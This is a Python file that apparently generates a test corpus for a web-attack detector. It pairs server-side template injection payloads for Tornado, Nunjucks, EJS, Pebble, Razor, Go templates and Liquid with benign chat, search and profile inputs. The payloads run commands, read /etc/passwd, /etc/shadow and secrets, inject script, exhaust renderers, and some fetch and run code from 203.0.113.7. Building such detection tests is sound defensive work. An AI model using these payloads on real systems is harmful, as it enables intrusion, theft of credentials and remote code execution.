    "{% import subprocess %}{{ subprocess.check_output('id', shell=True) }}",
    "{{ __import__('os').popen('cat /etc/passwd').read() }}",
    "{% raw __import__('os').popen('id').read() %}",
    "{% set x = __import__('os').system('id') %}",
    "{% apply __import__('os').system %}id{% end %}",
    "{{handler.settings}}",
    "{{ handler.application.settings['cookie_secret'] }}",
    "{%import os%}{{os.system('whoami')}}",
]

# nunjucks. Target: Nunjucks (Node.js) rendering input: the Function constructor reached from the globals range,
# cycler and joiner or from a string literal, bracket lookup with a concatenated name
NUNJUCKS: list[Entry] = [
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{ cycler.constructor('return process.mainModule.require(\"child_process\").execSync(\"cat /etc/passwd\")')()"
    " }}",
    "{{joiner.constructor('return this.process.env')()}}",
    "{{ ''.constructor.constructor('return process')().mainModule.require('child_process').execSync('id') }}",
    "{{range.constructor(\"return global.process.mainModule.require('child_'+'process')"
    ".execSync('touch /tmp/pwned')\")()}}",
    "{% set f = range.constructor('return process.mainModule.require(\"fs\").readFileSync(\"/etc/passwd\",\"utf8\")')"
    " %}{{ f() }}",
    "{{range['constr'+'uctor'](\"return global.process.mainModule.require('child_process').execSync('whoami')\")()}}",
]

# ejs. Target: EJS templates compiled from input, and EJS render options taken from the query (Express passes
# req.query as the view's data: settings[view options][outputFunctionName], CVE-2022-29078)
EJS: list[Entry] = [
    "<%= global.process.mainModule.require('child_process').execSync('id') %>",
    "<%- process.mainModule.require('child_process').execSync('cat /etc/passwd') %>",
    "<%- global.process.mainModule.constructor._load('child_process').execSync('whoami') %>",
    "<%_ process.mainModule.require('child_process').exec('touch /tmp/pwned') _%>",
    "<%=\nthis.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')\n%>",
    "<%= JSON.stringify(process.env) %>",
    "<%= global['pro'+'cess']['mainModule']['require']('child_process')['execSync']('id') %>",
    "<%# note %><%= process.mainModule.require('fs').readdirSync('/') %>",
    kv("settings[view options][outputFunctionName]=x;process.mainModule.require('child_process')"
       ".execSync('curl http://203.0.113.7/e|sh');s"),
    kv("settings[view options][client]=1&settings[view options][escapeFunction]=1;return global.process"
       ".mainModule.constructor._load('child_process').execSync('id')", "query", "rs-query"),
]

# pebble. Target: Pebble (Java): reflection from a literal or a number's TYPE, the 3.0.8 method-index bypass
PEBBLE: list[Entry] = [
    "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
    ".exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0]"
    ".newInstance(([bytes]).toArray()) }}",
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    "{{ 'a'.getClass().forName('java.lang.Runtime').getRuntime().exec('touch /tmp/pwned') }}",
    "{{ (1).TYPE.forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id') }}",
    "{{ ''.class.forName('java.lang.Runtime').getRuntime().exec('whoami') }}",
    "{{(1).TYPE\n.forName('java.lang.Runtime').methods[6].invoke(null,null).exec('id')}}",
]

# razor. Target: ASP.NET Razor compiled from input (RazorEngine, CMS templates): Process.Start in expressions and
# code blocks, file reads, environment dump, reflection over the type name
RAZOR: list[Entry] = [
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
    "@{ System.Diagnostics.Process.Start(\"cmd.exe\", \"/c powershell -enc "
    + ps_enc("iwr http://203.0.113.7/r.ps1|iex") + "\"); }",
    "@System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\")",
    "@(System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo(\"/bin/sh\",\"-c id\")"
    "{RedirectStandardOutput=true}).StandardOutput.ReadToEnd())",
    "@foreach(System.Collections.DictionaryEntry e in System.Environment.GetEnvironmentVariables())"
    "{<p>@e.Key=@e.Value</p>}",
    "@{var p=new System.Diagnostics.Process();p.StartInfo.FileName=\"cmd.exe\";p.StartInfo.Arguments=\"/c net user\";"
    "p.Start();}",
    "@Html.Raw(System.IO.File.ReadAllText(\"/etc/passwd\"))",
    "@System.Type.GetType(\"System.Diagnostics.Process\").GetMethod(\"Start\",new[]{typeof(string),typeof(string)})"
    ".Invoke(null,new object[]{\"cmd.exe\",\"/c whoami\"})",
]

# go-templates. Target: Go text/template rendering input with the request context as data (Echo/Gin handlers):
# dumping the whole context, calling the context's exported file-serving methods, defining a template that emits
# script (text/template does not escape)
GO_TEMPLATES: list[Entry] = [
    "{{ printf \"%#v\" . }}",
    "{{define \"T1\"}}<script>alert(document.domain)</script>{{end}}{{template \"T1\"}}",
    "{{ printf \"%s\" \"<img src=x onerror=alert(document.cookie)>\" }}",
    "{{ .File \"/etc/passwd\" }}",
    "{{ .Attachment \"/etc/shadow\" \"shadow.txt\" }}",
    "{{ .Inline \"/proc/self/environ\" \"env.txt\" }}",
    "{{ index .Request.Header \"Authorization\" }}",
]

# liquid. Target: Liquid (Shopify/Jekyll in Ruby, LiquidJS in Node): output is not escaped, so script and
# entity-encoded javascript: links go straight to the browser; unbounded loops and doubling strings exhaust the
# renderer (LiquidJS has no render limits by default)
LIQUID: list[Entry] = [
    "{{ '<img src=x onerror=alert(document.domain)>' }}",
    "{%- capture x -%}<script>alert(document.cookie)</script>{%- endcapture -%}{{ x }}",
    "{{ '<a href=\"&#106;avascript:alert(document.domain)\">open</a>' }}",
    "{{ 'x' | prepend: '<script src=//203.0.113.7/l.js></script>' }}",
    "{% for i in (1..100000000) %}{% endfor %}",
    "{% assign s = 'aaaaaaaa' %}{% for i in (1..40) %}{% assign s = s | append: s %}{% endfor %}{{ s }}",
    "{% for a in (1..10000) %}{% for b in (1..10000) %}{{ a }}{% endfor %}{% endfor %}",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("generic", "nodejs-injection", NODE_INJECTION),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "ssrf-cloud-metadata", METADATA),
    ("generic", "ssrf-internal-ip", INTERNAL),
    ("generic", "javascript-prototype-pollution", PROTO),
    ("generic", "ruby-injection", RUBY),
    ("generic", "perl-injection", PERL),
    ("generic", "php-data-scheme", PHP_DATA),
    ("java", "java-class-names", CLASS_NAMES),
    ("java", "java-process-spawn", PROCESS),
    ("java", "java-serialization", SERIALIZATION),
    ("java", "deserialization-gadgets", GADGETS),
    ("java", "log4shell", LOG4SHELL),
    ("java", "expression-language", EXPRESSION),
    ("java", "polymorphic-deserialization", POLYMORPHIC),
    ("java", "class-loading", CLASS_LOADING),
    ("java", "jsp-upload", JSP_UPLOAD),
    ("ssti", "jinja2", JINJA2),
    ("ssti", "twig", TWIG),
    ("ssti", "freemarker", FREEMARKER),
    ("ssti", "velocity", VELOCITY),
    ("ssti", "thymeleaf", THYMELEAF),
    ("ssti", "erb", ERB),
    ("ssti", "smarty", SMARTY),
    ("ssti", "handlebars", HANDLEBARS),
    ("ssti", "pug", PUG),
    ("ssti", "mako", MAKO),
    ("ssti", "tornado", TORNADO),
    ("ssti", "nunjucks", NUNJUCKS),
    ("ssti", "ejs", EJS),
    ("ssti", "pebble", PEBBLE),
    ("ssti", "razor", RAZOR),
    ("ssti", "go-templates", GO_TEMPLATES),
    ("ssti", "liquid", LIQUID),
]

# the parameter names a real request of each category carries the payload under
NAMES: dict[str, list[str]] = {
    "generic": ["url", "q", "callback", "code", "filter", "template", "webhook_url", "avatar_url", "data", "expr"],
    "java": ["data", "q", "expr", "name", "payload", "state", "redirect", "search"],
    "ssti": ["name", "template", "message", "q", "subject", "bio", "title"],
}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    documents = True   # XStream/XMLDecoder/SOAP/JSPX documents go as the whole XML body
    unique = True
    upload = JSP_SHELL   # a JSP file name's upload carries a JSP shell
    raw_places = ("query", "form", "param-name", "rs-query", "rs-param-name", "rs-raw-body")
    path_forbids = "/?#\\%"
    xml_controls = "\n\r\t"

    def name(self, category: str, sub: str, k: int) -> str:
        names = NAMES[category]
        return names[k % len(names)]

    def is_latin(self, sub: str, payload: str) -> bool:
        return payload.startswith("\xac\xed\x00\x05")   # a raw serialized stream

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        return payload in RAW_PAIRS

    def _raw(self, p: Put) -> str:
        # a pair keeps its own percent-escapes (%5F%5Fproto%5F%5F): the server decodes them once
        return self.enc(p.v, False, self.kv_safe + "%")

    def _p_rs_raw_body(self, p: Put) -> Record:
        if p.raw:
            body = self._raw(p)
        elif p.latin:
            body = self.enc(p.v, True)   # every byte of a raw stream percent-encoded (a str body cannot hold bytes)
        else:
            body = p.v
        return request("POST", p.path, body, "application/x-www-form-urlencoded")


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same syntax where real users type it (Slack chat and bios of engineers, support agents and ordinary
# users: code snippets, template placeholders, encoded and escaped text, fullwidth input, emoji, math; searches,
# links with percent-encoding, admin-panel notes, profiles with non-ASCII names, uploads, ordinary headers)
CHAT = [
    # engineers: Node.js, Java, Ruby, Perl, PHP in ordinary work
    "PSA: `require('child_process')` is banned in the bot's request handlers now, use the worker queue instead",
    "the lint rule no-eval caught a `new Function()` in the old report builder, I replaced it with a lookup table",
    "our Express app sets `app.set('json spaces', 2)` only in dev, prod responses are compact",
    "TIL `Object.create(null)` gives you a dict without __proto__, handy for user-supplied keys",
    "lodash 4.17.21 fixed the merge prototype pollution, we're on it since last spring",
    "node 20 upgrade done, `process.env.NODE_ENV` is production on all three pods",
    "the regex for phone numbers was catastrophic on long inputs, I rewrote it without nested quantifiers",
    "anyone know why `Buffer.from(str, 'base64')` silently ignores bad characters? spent an hour on that",
    "the Java service still calls ProcessBuilder for ffmpeg, it's on the list to move into a sidecar",
    "log4j is 2.23.1 everywhere, and `log4j2.formatMsgNoLookups` is set anyway for the old batch job",
    "Spring Boot 3.3 migration: the @Value(\"${app.timeout:30}\") defaults still work the same",
    "Jackson default typing is off in every service, enableDefaultTyping() was removed in the refactor",
    "the Struts app is finally decommissioned, goodbye OGNL",
    "Rails console tip: `User.where(team: 'infra').count` is faster than loading them all",
    "ruby 3.3 YAML.load is safe_load by default now, the importer needed permitted_classes for Date",
    "perl one-liner I use for log cleanup: perl -pe 's/\\s+$//' access.log",
    "php 8.3 on the wiki box, the data: URLs in old pages are just inline images, nothing to worry about",
    "rewrote the webhook fetcher so it refuses private ranges: 10/8, 172.16/12, 192.168/16, 169.254/16, ::1",
    "we block 169.254.169.254 from the app containers, IMDSv2 only for the node role",
    "GCP metadata server lookups go through the sidecar now, the app never sets Metadata-Flavor itself",
    # templates and placeholders
    "the welcome email template uses {{ user.first_name }} and {{ team.name }}, the preview looks fine",
    "Jinja tip: `{{ items|length }}` instead of calling len() in the template",
    "the Helm chart values go in {{ .Values.image.tag }}, don't hardcode the tag in the deployment",
    "Thymeleaf fragments are in templates/fragments, use th:replace=\"~{fragments/footer :: footer}\"",
    "Liquid in the Jekyll docs site: {% include note.html content=\"Read this first\" %}",
    "erb partial for the invoice is <%= render 'line_items' %>, the totals are computed in the model",
    "Handlebars helper {{formatDate createdAt \"YYYY-MM-DD\"}} is in helpers.js",
    "Go templates: {{ range .Items }}{{ .Name }}{{ end }} prints the list, the doc has more",
    "the Slack message builder replaces ${name} and ${date} before sending, like a tiny template",
    "FreeMarker in the old CMS: ${user.name!\"guest\"} gives a default when the name is missing",
    # support agents and ordinary users
    "customer pasted rich text from Word, the name came through as Ben &amp; Jerry&#39;s, fixed by hand",
    "the profile shows caf&eacute; instead of café for one user, the import double-escaped it",
    "user in Tokyo wrote their address in fullwidth: 東京都港区芝公園４－２－８, the search still finds it",
    "ＡＢＣ商事 is the same company as ABC商事, can we merge the two directory entries?",
    "a customer typed ｐａｓｓｗｏｒｄ reset in fullwidth, the bot understood it after the NFKC change",
    "喜欢这个新功能！谢谢团队 🎉",
    "the weather bot said 23°C in Paris, someone asked if it supports °F (it does: /jeeves units imperial)",
    "thanks for the help today 🙏 the export works now",
    "Kim's status: 🌴 out until Monday",
    "math question for the quiz channel: if f(x) = 2x^2 + 3x - 5, what is f(3)? (answer: 22)",
    "the formula in the sheet is =SUMIF(B2:B40,\"infra\",C2:C40), it totals the infra budget",
    "E = mc^2 is on the mug the design team gave me",
    "probability of two people sharing a birthday in a room of 23 is about 50%",
    "the escape sequence \\n in the CSV header broke the import, it was a literal backslash n",
    "paste from Google Docs turned my quotes into “smart quotes” and the config parser choked",
    "JSON tip: \\u00e9 is é, the API returns escaped non-ASCII when the client asks for ASCII only",
    "the link https://example.com/search?q=caf%C3%A9 works, the %C3%A9 is just é encoded",
    "our office address in Zürich is Bahnhofstrasse 1, 8001 Zürich",
    "the CEO's quote for the newsletter: \"We ship small, we ship often.\"",
    "can someone rename the channel from #proj-x to #project-x?",
    "please use /jeeves remember location São Paulo, the bot handles the accent fine",
    "ordering lunch: 2x pad thai, 1x green curry, 3x spring rolls",
    "the printer on floor 3 is out of toner again 😩",
    "who has the keys to the bike room?",
    # security team, in plain words
    "reminder: the SSRF training is Thursday, we'll look at why webhooks must not reach internal IPs",
    "Log4Shell retrospective doc is up, mostly about how we found every copy of log4j-core",
    "the pentest found no template injection in the email builder, user input goes in as data only",
    "deserialization: we removed Java serialization from the session store in 2022, JSON only now",
    "the CTF this weekend has a prototype pollution challenge and an SSTI one, team sign-up in the thread",
    "bug bounty report about the avatar URL fetcher is valid, it followed redirects to localhost; fix deployed",
    # bios
    "Node.js and TypeScript backend dev. Express, Fastify, too many npm packages.",
    "Java developer since 1.4. Spring, Jackson, and a long memory of Struts.",
    "Rubyist. Rails, Sidekiq, and the occasional Perl script I'm not proud of.",
    "Security engineer: SSRF, deserialization and template injection are my favourite bug classes.",
    "Platform team. Kubernetes, Helm charts full of {{ }}, and on-call every fourth week.",
    "Front-end developer 🎨 Handlebars, then React, now Svelte.",
    "データエンジニア。Python と SQL が得意です。東京オフィス勤務。",
    "数据分析师，喜欢 Python 和可视化 📊",
    "Support lead. I read every ticket, even the ones in ALL CAPS.",
    "Math teacher turned developer. Still think in f(x).",
]

SEARCHES = [
    "ana", "josé", "zoë", "müller", "東京", "山田", "ＡＢＣ商事", "李伟", "søren", "françois",
    "node", "java", "ruby", "perl", "php", "spring", "jackson", "template", "jinja", "twig",
    "velocity", "freemarker", "handlebars", "pug", "liquid", "razor", "thymeleaf", "smarty", "mako", "tornado",
    "metadata", "webhook", "proxy", "localhost", "log4j", "data", "process", "runtime", "class", "loader",
    "o'neil", "d'arcy", "ben & jerry", "c++", "c#", "f(x)", "50%", "#infra", "@ana", "🎉",
]

URLS = [
    "https://nodejs.org/api/child_process.html",
    "https://nodejs.org/api/vm.html#vm-executing-javascript",
    "https://expressjs.com/en/api.html#app.settings.table",
    "https://lodash.com/docs/4.17.15#merge",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
    "https://cloud.google.com/compute/docs/metadata/querying-metadata",
    "https://learn.microsoft.com/en-us/azure/virtual-machines/instance-metadata-service",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://docs.spring.io/spring-framework/reference/core/expressions.html",
    "https://github.com/FasterXML/jackson-docs/wiki/JacksonPolymorphicDeserialization",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/#variables",
    "https://twig.symfony.com/doc/3.x/filters/map.html",
    "https://freemarker.apache.org/docs/ref_builtins_expert.html#ref_builtin_new",
    "https://shopify.github.io/liquid/tags/iteration/",
    "https://handlebarsjs.com/guide/block-helpers.html",
    "https://ruby-doc.org/3.3/Kernel.html#method-i-open",
    "https://perldoc.perl.org/functions/open",
    "https://www.php.net/manual/en/wrappers.data.php",
    "https://cheatsheetseries.owasp.org/cheatsheets/Server_Side_Request_Forgery_Prevention_Cheat_Sheet.html",
    "https://portswigger.net/web-security/server-side-template-injection",
    "https://ja.wikipedia.org/wiki/%E6%9D%B1%E4%BA%AC%E9%83%BD",
    "https://www.google.com/maps/search/caf%C3%A9+z%C3%BCrich",
]

PROSE = [
    "Node.js guild meeting notes",
    "Java 21 migration owners",
    "Ruby on Rails maintainers",
    "Perl scripts inventory (legacy cron jobs)",
    "template owners for the email builder",
    "users with a {{first_name}} placeholder left in their bio",
    "people whose name contains &amp; after the Word import",
    "Ben & Jerry's marketing team",
    "café staff",
    "山田 太郎",
    "ＡＢＣ商事 contacts",
    "東京オフィス",
    "北京办公室",
    "emoji in display names 😀",
    "accounts created via the webhook importer",
    "metadata team",
    "localhost testers group",
    "proxy administrators",
    "log4j upgrade volunteers",
    "Spring Boot users",
    "process improvement committee",
    "runtime platform team",
    "class of 2024 interns",
    "data protection officers",
    "security champions (SSRF and deserialization training)",
    "f(x) = 2x + 1 study group",
    "50% remote employees",
    "C# and .NET developers",
    "Razor pages maintainers",
    "people with O'Neil or O’Neil spelled both ways",
    "Zoë, Zoe and Zoé",
    "José Müller",
    "the \"quoted\" name import batch",
    "team [infra]",
    "users tagged #oncall",
    "50/50 hybrid schedule",
    "first-name/last-name swapped records",
    "Jinja template authors",
    "Handlebars email designers",
    "Go templates in Helm charts reviewers",
]

PROFILES = [
    ("José Müller", "Calle de Alcalá 42, Madrid"),
    ("Zoë Østergaard", "Nørrebrogade 10, København"),
    ("山田 太郎", "東京都港区芝公園４－２－８"),
    ("李伟", "北京市朝阳区建国路８８号"),
    ("Søren Kierkegaard", "Strøget 1, København"),
    ("François Dupont", "12 rue de la Paix, Paris"),
    ("Ben & Jerry's Franchise", "Main St 5, Burlington"),
    ("Ana O'Neil", "Grafton St 3, Dublin"),
    ("Łukasz Żółć", "ul. Floriańska 7, Kraków"),
    ("Ngô Bảo Châu", "Phố Huế 21, Hà Nội"),
    ("Κώστας Παπαδόπουλος", "Ερμού 15, Αθήνα"),
    ("Иван Петров", "Тверская ул. 7, Москва"),
    ("Template Designs Ltd", "Design Quarter 4, Leeds"),
    ("Java Beans Coffee", "Bean St 9, Seattle"),
    ("Ruby Nails Salon", "High St 30, Bristol"),
    ("Perl Harbour Tours", "Harbour Rd 2, Honolulu"),
    ("Metadata Solutions GmbH", "Datenweg 3, Berlin"),
    ("Spring Gardens Florist", "Spring Gardens 1, Manchester"),
    ("Node Fitness Club", "Park Ave 200, New York"),
    ("ＡＢＣ商事 株式会社", "大阪府大阪市北区梅田１－１"),
]

# the same kind of profiles as an ASCII-only JSON client sends them: non-ASCII as \u escapes (Python json.dumps,
# Java's Jackson with ESCAPE_NON_ASCII, many mobile SDKs)
ESCAPED_PROFILES = [
    ("José Müller", "Calle de Alcalá 42, Madrid"),
    ("山田 花子", "東京都新宿区西新宿２－８－１"),
    ("王芳", "上海市浦东新区世纪大道１００号"),
    ("Zoë Østergaard", "Nørrebrogade 10, København"),
    ("Ngô Bảo Châu", "Phố Huế 21, Hà Nội"),
    ("Renée Faßbender", "Königsallee 1, Düsseldorf"),
    ("Κώστας Παπαδόπουλος", "Ερμού 15, Αθήνα"),
    ("Emoji Fan 😀", "Smile St 1, Brighton"),
    ("ＡＢＣ商事", "大阪府大阪市北区梅田１－１"),
    ("Ana \"Annie\" O'Neil", "Grafton St 3, Dublin"),
    ("Chloé & Co", "Rue Saint-Honoré 8, Paris"),
    ("İsmail Çelik", "İstiklal Cd. 5, İstanbul"),
]

UPLOAD_NAMES = [
    "team-offsite-photo.jpg", "résumé-josé.pdf", "東京オフィス地図.png", "invoice_2024-06 (1).pdf",
    "email-template-welcome.html", "helm-values.yaml", "jinja-macros.txt", "log4j2.xml", "pom.xml",
    "Gemfile.lock", "package.json", "cpanfile", "composer.json", "metadata-export.csv", "weather icons ☀️.zip",
    "org-chart_v2.pptx", "Zoë's notes.docx", "data-protection-policy.pdf", "layout.erb", "handbook.md",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
                   "Safari/537.36"),
    ("User-Agent", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)"),
    ("User-Agent", "axios/1.7.2"),
    ("User-Agent", "Java/17.0.11"),
    ("User-Agent", "Apache-HttpClient/5.3.1 (Java/21.0.3)"),
    ("User-Agent", "Ruby"),
    ("User-Agent", "libwww-perl/6.77"),
    ("User-Agent", "okhttp/4.12.0"),
    ("Referer", "https://app.example.com/admin/users?q=%E5%B1%B1%E7%94%B0&page=2"),
    ("Referer", "https://www.google.com/search?q=jinja2+template+filters+length"),
    ("Referer", "https://docs.spring.io/spring-framework/reference/core/expressions.html"),
    ("Referer", "https://nodejs.org/api/child_process.html"),
    ("Accept-Language", "ja-JP,ja;q=0.9,en-US;q=0.8,en;q=0.7"),
    ("Accept-Language", "zh-CN,zh;q=0.9,en;q=0.8"),
    ("X-Request-Id", "node-7f2c1e9a-3b44-4d1e-9b0a-55c2e1f0a7d3"),
    ("Cookie", "session=abc123; locale=ja-JP; tz=Asia%2FTokyo"),
    ("Cookie", "session=abc123; last_search=caf%C3%A9; theme=dark"),
    ("If-None-Match", "W/\"2f-1a9c3e7d\""),
    ("X-Forwarded-For", "203.0.113.54"),
]


def escaped_profiles(rows: list[tuple[str, str]], n: int) -> Iterator[dict[str, Any]]:
    """Profiles posted by an ASCII-only JSON client: non-ASCII as \\u escapes."""
    docs = (json.dumps({"name": who, "address": where, "email": "user@example.org"}) for who, where in rows)
    yield from numbered((request("POST", "/api/users", doc, "application/json") for doc in docs),
                        f"{NAME}-escaped-profile", n, "json")


def benign() -> Iterator[dict[str, Any]]:
    records = list(SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS))
    yield from records
    yield from escaped_profiles(ESCAPED_PROFILES, len(records))


if __name__ == "__main__":
    print_records(attacks(), benign())
